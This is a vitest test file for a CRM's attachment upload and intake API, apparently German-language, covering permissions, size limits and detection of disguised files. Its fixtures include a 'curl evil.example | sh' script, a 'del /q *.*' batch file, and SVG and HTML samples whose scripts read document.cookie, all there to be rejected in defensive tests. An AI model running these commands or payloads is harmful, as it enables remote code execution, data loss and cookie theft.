import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestClient, testLocation } from '@test/support/app';
import { ATTACHMENT_MAX_BYTES } from '@shared/requests/attachments';
import { callbackRequest, createRequest, intakeKey, newCustomer } from './test-support';

let t: TestApp;
let reception: TestClient & { userId: string };
let admin: TestClient & { userId: string };
let elsewhere: TestClient & { userId: string };
let key: { id: string; headers: Record<string, string> };

beforeAll(async () => {
  t = await createTestApp();
  await t.userWithRole('manager');
  reception = await t.userWithRole('reception');
  admin = await t.userWithRole('admin');
  const other = await t.services.org.createLocation(null, testLocation({ name: 'Anderswo', code: 'AND' }));
  elsewhere = await t.userWithRole('sales', { locationId: other.id });
  key = await intakeKey(t, admin);
});
afterAll(() => t.close());

const PDF = Buffer.from('%PDF-1.4\n% Kostenvoranschlag\n%%EOF\n');
/** A real 1×1 PNG: the content is checked, not only the declared type. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');

/** A multipart/form-data body with files under "files", as the browser's file input sends it. */
function multipart(files: Array<{ name: string; type: string; content: Buffer }>) {
  const boundary = `----crm${Math.random().toString(16).slice(2)}`;
  const parts = files.flatMap((f) => [
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="${f.name}"\r\nContent-Type: ${f.type}\r\n\r\n`,
    ),
    f.content,
    Buffer.from('\r\n'),
  ]);
  return {
    payload: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const upload = (client: TestClient, requestId: string, files: Parameters<typeof multipart>[0]) =>
  client.request({ method: 'POST', url: `/api/requests/${requestId}/attachments`, ...multipart(files) });

const count = async () =>
  Number((await t.database.query<{ n: number }>('SELECT count(*)::int AS n FROM request_attachments'))[0]!.n);

describe('attachments on a request', () => {
  it('are uploaded, listed and downloaded by colleagues of the location, and noted on the history', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    const res = await upload(reception, request.id, [
      { name: 'Kostenvoranschlag Müller.pdf', type: 'application/pdf', content: PDF },
      { name: 'Kratzer.png', type: 'image/png', content: PNG },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    const list = (await admin.get(`/api/requests/${request.id}/attachments`)).json();
    expect(list).toEqual([
      expect.objectContaining({
        fileName: 'Kostenvoranschlag Müller.pdf',
        contentType: 'application/pdf',
        size: PDF.length,
        createdBy: expect.objectContaining({ id: reception.userId }),
      }),
      expect.objectContaining({ fileName: 'Kratzer.png', contentType: 'image/png', size: PNG.length }),
    ]);

    const download = await reception.get(`/api/requests/${request.id}/attachments/${list[0].id}`);
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toContain("filename*=UTF-8''Kostenvoranschlag%20M%C3%BCller.pdf");
    expect(download.rawPayload.equals(PDF)).toBe(true);

    const events = (await reception.get(`/api/requests/${request.id}/events`)).json();
    expect(events.find((e: { kind: string }) => e.kind === 'attachments_added')).toMatchObject({
      kind: 'attachments_added',
      data: { files: ['Kostenvoranschlag Müller.pdf', 'Kratzer.png'] },
    });
  });

  it('are closed to staff of other locations', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    await upload(reception, request.id, [{ name: 'a.pdf', type: 'application/pdf', content: PDF }]);
    const [file] = (await reception.get(`/api/requests/${request.id}/attachments`)).json();
    expect((await elsewhere.get(`/api/requests/${request.id}/attachments`)).statusCode).toBe(403);
    expect((await elsewhere.get(`/api/requests/${request.id}/attachments/${file.id}`)).statusCode).toBe(403);
    const before = await count();
    const res = await upload(elsewhere, request.id, [{ name: 'b.pdf', type: 'application/pdf', content: PDF }]);
    expect(res.statusCode).toBe(403);
    expect(await count()).toBe(before);
  });

  it('refuses a file over 10 MB with 413 and one of a kind not accepted with 415, naming the file, storing none', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    const before = await count();
    const big = await upload(reception, request.id, [
      { name: 'klein.pdf', type: 'application/pdf', content: PDF },
      { name: 'riesig.pdf', type: 'application/pdf', content: Buffer.alloc(ATTACHMENT_MAX_BYTES + 1, 0x20) },
    ]);
    expect(big.statusCode).toBe(413);
    expect(big.json().errors[0]).toMatchObject({
      field: 'files.1',
      message: expect.stringContaining('riesig.pdf'),
      // The web words it by code and parameters in the user's language.
      code: 'file_too_large',
      params: { fileName: 'riesig.pdf', megabytes: ATTACHMENT_MAX_BYTES / (1024 * 1024) },
    });

    const exe = await upload(reception, request.id, [
      { name: 'rechnung.exe', type: 'application/x-msdownload', content: Buffer.from('MZ') },
    ]);
    expect(exe.statusCode).toBe(415);
    expect(exe.json().errors[0]).toMatchObject({
      field: 'files.0',
      message: expect.stringContaining('rechnung.exe'),
      code: 'file_type_not_accepted',
      params: { fileName: 'rechnung.exe' },
    });
    expect(await count()).toBe(before);
  });

  it('refuses a file whose name holds a NUL character, naming the file, storing none', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    const before = await count();
    const res = await upload(reception, request.id, [
      { name: 'Angebot.pdf', type: 'application/pdf', content: PDF },
      { name: 'Rechnung\u0000.pdf', type: 'application/pdf', content: PDF },
    ]);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().errors[0]).toMatchObject({
      field: 'files.1',
      message: expect.stringContaining('Rechnung'),
      code: 'unstorable_text',
    });
    expect(await count()).toBe(before);
  });
});

describe('what a file really is', () => {
  it('refuses programs and files whose content or name is of another kind with 415, naming each, storing none', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    const before = await count();
    const disguised = await upload(reception, request.id, [
      { name: 'rechnung.pdf', type: 'application/pdf', content: EXE },
      { name: 'notiz.txt', type: 'text/plain', content: HTML },
      { name: 'foto.png', type: 'image/png', content: SVG },
      { name: 'rechnung.pdf.exe', type: 'application/pdf', content: PDF },
      { name: 'werkzeug', type: 'text/plain', content: ELF },
    ]);
    expect(disguised.statusCode).toBe(415);
    const mismatch = (field: string, fileName: string, message: string) => ({
      field,
      in: 'body',
      code: 'file_content_mismatch',
      params: { fileName },
      message,
    });
    expect(disguised.json().errors).toEqual([
      mismatch('files.0', 'rechnung.pdf', '"rechnung.pdf" is a program'),
      mismatch('files.1', 'notiz.txt', '"notiz.txt" contains HTML, SVG or XML markup'),
      mismatch('files.2', 'foto.png', '"foto.png" is of unknown content, not PNG'),
      mismatch('files.3', 'rechnung.pdf.exe', '"rechnung.pdf.exe" is named as another kind of file than PDF'),
      mismatch('files.4', 'werkzeug', '"werkzeug" is a program'),
    ]);

    const scripts = await upload(reception, request.id, [
      { name: 'install.txt', type: 'text/plain', content: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') },
      { name: 'bild.jpg', type: 'image/jpeg', content: PNG },
      { name: 'mail.eml', type: 'message/rfc822', content: HTML },
      { name: 'daten.txt', type: 'text/plain', content: Buffer.from([0x48, 0x69, 0x00, 0x01, 0x02]) },
      { name: 'start.bat', type: 'text/plain', content: Buffer.from('del /q *.*') },
    ]);
    expect(scripts.statusCode).toBe(415);
    expect(scripts.json().errors.map((e: { field: string; message: string }) => [e.field, e.message])).toEqual([
      ['files.0', '"install.txt" is a script'],
      ['files.1', '"bild.jpg" is a .png file, not JPEG'],
      ['files.2', '"mail.eml" is not an e-mail'],
      ['files.3', '"daten.txt" is not text'],
      ['files.4', '"start.bat" is named as another kind of file than Text'],
    ]);
    expect(await count()).toBe(before);
  });

  it('stores a file under the ending of what it is, and takes text in UTF-8 or Windows-1252', async () => {
    const request = await createRequest(reception, callbackRequest(t.location.id));
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Teile').addRow(['Bremsbeläge', 89.9]);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const mail = Buffer.from('From: kunde@example.test\r\nSubject: Termin\r\n\r\n<p>Geht Dienstag?</p>\r\n');
    const res = await upload(reception, request.id, [
      { name: 'foto.jpg.pdf', type: 'application/pdf', content: PDF },
      { name: 'Notiz 12.03', type: 'text/plain', content: Buffer.from('Kunde wünscht Rückruf, Größe 42 €') },
      { name: 'alt.TXT', type: 'text/plain', content: Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65, 0x20, 0x80]) },
      { name: 'Teileliste.xlsx', type: xlsxType, content: xlsx },
      { name: 'Anfrage.eml', type: 'message/rfc822', content: mail },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    expect(
      res
        .json()
        .map((f: { fileName: string }) => f.fileName)
        .sort(),
    ).toEqual(['Anfrage.eml', 'Notiz 12.03.txt', 'Teileliste.xlsx', 'alt.TXT', 'foto.pdf']);
  });
});

describe('attachments in the JSON intake API', () => {
  const lead = (attachments: unknown[]) => ({
    type: 'complaint',
    locationCode: t.location.code,
    message: 'Der Lack hat Kratzer, Foto anbei.',
    customer: newCustomer(),
    attachments,
  });
  let n = 0;
  const post = (body: unknown) =>
    t.app.inject({
      method: 'POST',
      url: '/api/intake/requests',
      payload: body as object,
      headers: { ...key.headers, 'idempotency-key': `files-${++n}` },
    });

  it('stores base64 files with the request', async () => {
    const res = await post(
      lead([{ fileName: 'Foto.png', contentType: 'image/png', contentBase64: PNG.toString('base64') }]),
    );
    expect(res.statusCode, res.body).toBe(201);
    const id = res.json().request.id;
    const [file] = (await admin.get(`/api/requests/${id}/attachments`)).json();
    expect(file).toMatchObject({ fileName: 'Foto.png', contentType: 'image/png', size: PNG.length, createdBy: null });
    const download = await admin.get(`/api/requests/${id}/attachments/${file.id}`);
    expect(download.rawPayload.equals(PNG)).toBe(true);
  });

  it('takes a file whose name holds a NUL character in, without it, and says so', async () => {
    const res = await post(
      lead([{ fileName: 'Foto\u0000.png', contentType: 'image/png', contentBase64: PNG.toString('base64') }]),
    );
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().warnings).toContainEqual(
      expect.objectContaining({ code: 'nul_removed', path: 'attachments.0.fileName' }),
    );
    const [file] = (await admin.get(`/api/requests/${res.json().request.id}/attachments`)).json();
    expect(file.fileName).toBe('Foto.png');
  });

  it('refuses broken base64, a kind not accepted, a disguised file and a file too large, naming the file, taking nothing in', async () => {
    const requests = async () =>
      Number((await t.database.query<{ n: number }>('SELECT count(*)::int AS n FROM customer_requests'))[0]!.n);
    const before = await requests();
    const broken = await post(lead([{ fileName: 'kaputt.pdf', contentType: 'application/pdf', contentBase64: '%%%' }]));
    expect(broken.statusCode).toBe(400);
    expect(broken.json().errors[0]).toMatchObject({
      field: 'attachments.0.contentBase64',
      message: expect.stringContaining('kaputt.pdf'),
      code: 'invalid_base64',
    });

    const zip = await post(
      lead([{ fileName: 'viren.zip', contentType: 'application/zip', contentBase64: PDF.toString('base64') }]),
    );
    expect(zip.statusCode).toBe(415);
    expect(zip.json().errors[0]).toMatchObject({
      field: 'attachments.0',
      message: expect.stringContaining('viren.zip'),
    });

    const svg = await post(
      lead([
        { fileName: 'Foto.png', contentType: 'image/png', contentBase64: PNG.toString('base64') },
        { fileName: 'Kratzer.png', contentType: 'image/png', contentBase64: SVG.toString('base64') },
      ]),
    );
    expect(svg.statusCode).toBe(415);
    expect(svg.json().errors).toEqual([
      {
        field: 'attachments.1',
        in: 'body',
        code: 'file_content_mismatch',
        params: { fileName: 'Kratzer.png' },
        message: '"Kratzer.png" is of unknown content, not PNG',
      },
    ]);

    const big = await post(
      lead([
        {
          fileName: 'riesig.pdf',
          contentType: 'application/pdf',
          contentBase64: Buffer.alloc(ATTACHMENT_MAX_BYTES + 3, 0x20).toString('base64'),
        },
      ]),
    );
    expect(big.statusCode).toBe(413);
    expect(big.json().errors[0]).toMatchObject({
      field: 'attachments.0',
      message: expect.stringContaining('riesig.pdf'),
    });
    expect(await requests()).toBe(before);
  });
});
